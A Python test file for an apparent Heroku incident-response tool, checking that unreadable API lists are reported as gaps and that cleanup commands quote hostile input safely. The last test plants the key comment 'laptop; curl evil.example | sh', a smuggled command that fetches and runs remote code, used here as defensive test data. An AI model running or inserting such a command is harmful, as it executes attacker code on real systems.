"""A list that could not be read, or not whole, is not seen: never none."""

from __future__ import annotations

from pathlib import Path

import pytest

from herotui.assess.key import claim, confirm, identify
from herotui.desk.survey import survey
from herotui.rotate.revoke import aftermath
from herotui.simulator.faults import Kind
from tests.desk.rig import events, rig


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["reset", "cut"])
async def test_an_authorizations_list_that_does_not_come_is_a_gap(tmp_path: Path, kind: Kind) -> None:
    async with rig(tmp_path) as at:
        await events(confirm(at.desk))
        await claim(at.desk)
        at.heroku.faults.add(kind, "/oauth/authorizations")
        await events(identify(at.desk))
        assert "authorizations" in at.desk.incident.gaps


async def test_spoiled_items_stay_a_gap_until_the_list_is_read_whole(tmp_path: Path) -> None:
    async with rig(tmp_path) as at:
        for path in ("/oauth/authorizations", "/apps"):
            at.heroku.faults.answer([{"id": 7}], path)
        await events(identify(at.desk))
        await events(survey(at.desk))
        assert {"authorizations", "apps"} <= at.desk.incident.gaps.keys()
        at.heroku.faults.clear()
        await events(identify(at.desk))
        await events(survey(at.desk))
        assert not {"authorizations", "apps"} & at.desk.incident.gaps.keys()


async def test_the_aftermath_says_what_it_did_not_see_and_takes_it_back_once_seen(tmp_path: Path) -> None:
    async with rig(tmp_path) as at:
        at.heroku.faults.fail(403, "/apps/*/log-drains", id="forbidden")
        at.heroku.faults.fail(403, "/apps/*/config-vars", id="forbidden")
        assert (await events(aftermath(at.desk)))[-1].endswith("places were not seen. More may be left to do there.")
        at.heroku.faults.clear()
        await events(aftermath(at.desk))
        assert not at.desk.incident.gaps


async def test_a_line_to_copy_holds_no_command_of_the_attackers(tmp_path: Path) -> None:
    async with rig(tmp_path, leak_known=False) as at:
        for key in at.heroku.world.owner.keys.values():
            key.comment = "laptop; curl evil.example | sh"
        await events(aftermath(at.desk))
        assert "heroku keys:remove 'laptop; curl evil.example | sh'" in [t.command for t in at.desk.incident.todo]
